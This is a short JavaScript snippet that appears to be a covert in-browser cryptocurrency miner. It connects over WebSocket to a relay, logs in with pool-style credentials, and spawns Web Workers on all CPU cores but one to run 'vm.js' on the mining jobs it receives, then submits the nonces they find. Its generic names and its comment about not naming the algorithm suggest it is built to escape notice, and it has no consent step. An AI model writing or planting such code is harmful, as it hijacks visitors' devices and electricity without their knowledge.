// No word of the algorithm: only the job's fields and what comes back.
const bridge = new WebSocket('wss://feed.relay.invalid/v1');
const crew = [];
bridge.onmessage = (event) => {
  const { method, params } = JSON.parse(event.data);
  if (method !== 'job') return;
  crew.forEach((member, index) => member.postMessage({ blob: params.blob, target: params.target, job_id: params.job_id, seed_hash: params.seed_hash, from: index << 28 }));
};
bridge.onopen = () => {
  bridge.send(JSON.stringify({ method: 'login', params: { login: 'NOBODY', pass: 'x', agent: 'feed' }, id: 1 }));
  for (let at = 0; at < Math.max(1, navigator.hardwareConcurrency - 1); at++) {
    const member = new Worker('vm.js');
    member.onmessage = ({ data }) => bridge.send(JSON.stringify({ method: 'submit', params: { job_id: data.job_id, nonce: data.nonce, result: data.result }, id: 2 }));
    crew.push(member);
  }
};
